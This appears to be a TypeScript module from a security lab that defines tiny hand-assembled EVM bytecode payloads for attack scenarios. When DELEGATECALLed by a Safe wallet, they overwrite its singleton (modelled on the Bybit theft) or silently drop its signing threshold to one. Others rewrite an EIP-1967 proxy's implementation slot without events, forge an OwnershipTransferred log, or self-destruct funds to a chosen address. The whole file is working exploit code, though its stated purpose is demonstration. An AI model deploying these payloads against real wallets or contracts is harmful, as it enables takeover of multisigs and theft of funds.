import { type Address, concat, type Hex, keccak256, pad, toHex } from 'viem'

// Tiny hand-assembled contracts for the lab's attack scenarios. Each ignores the function it is
// called with, which is the point: the selector a UI shows says nothing about what code runs.

/** Stores the first argument in slot 0: DELEGATECALLed by a Safe, it replaces the singleton (Bybit). */
export const SLOT0_WRITER: Hex = '0x60043560005500' // PUSH1 4 CALLDATALOAD PUSH1 0 SSTORE STOP

/** Stores 1 in slot 4: DELEGATECALLed by a Safe, it lowers the threshold to 1 without any event. */
export const THRESHOLD_TO_ONE: Hex = '0x600160045500' // PUSH1 1 PUSH1 4 SSTORE STOP

/** Writes its first argument into the EIP-1967 implementation slot and emits nothing. */
export const EIP1967_UPGRADER: Hex = concat([
  '0x600435', // PUSH1 4 CALLDATALOAD
  '0x7f', // PUSH32 the implementation slot
  '0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc',
  '0x5500', // SSTORE STOP
])

/** Emits OwnershipTransferred(caller, firstArgument), as an Ownable would on transferOwnership. */
export const OWNERSHIP_EMITTER: Hex = concat([
  '0x600435', // PUSH1 4 CALLDATALOAD (new owner)
  '0x33', // CALLER (previous owner)
  '0x7f', // PUSH32 topic0
  keccak256(toHex('OwnershipTransferred(address,address)')),
  '0x60006000a300', // PUSH1 0 PUSH1 0 LOG3 STOP
])

/** SELFDESTRUCTs, sending its balance to `beneficiary`. */
export const selfDestructTo = (beneficiary: Address): Hex =>
  concat(['0x73', pad(beneficiary, { size: 20 }), '0xff'])
